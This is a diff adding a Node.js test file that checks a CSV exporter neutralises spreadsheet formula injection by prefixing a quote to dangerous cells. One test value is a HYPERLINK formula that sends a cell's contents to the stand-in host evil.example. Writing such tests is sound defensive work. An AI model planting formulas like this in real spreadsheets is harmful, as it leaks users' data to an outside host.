@@ -1,0 +1,19 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { parse } from 'csv-parse/sync'
+import { toCsv } from './csv.ts'
+
+describe('toCsv', () => {
+  it('prefixes a single quote to text a spreadsheet would run as a formula', () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)', '\tTAB', '\rCR', '＝1+1']
+    const [row] = parse(toCsv([formulas])) as string[][]
+    assert.deepEqual(
+      row,
+      formulas.map((formula) => `'${formula}`),
+    )
+  })
+
+  it('keeps ordinary text and numbers, negative ones included, as they are', () => {
+    assert.equal(toCsv([['Ada Lovelace', 'a-b@example.org', '2026-12-07', 42, -3, 0]]), 'Ada Lovelace,a-b@example.org,2026-12-07,42,-3,0\n')
+  })
+})
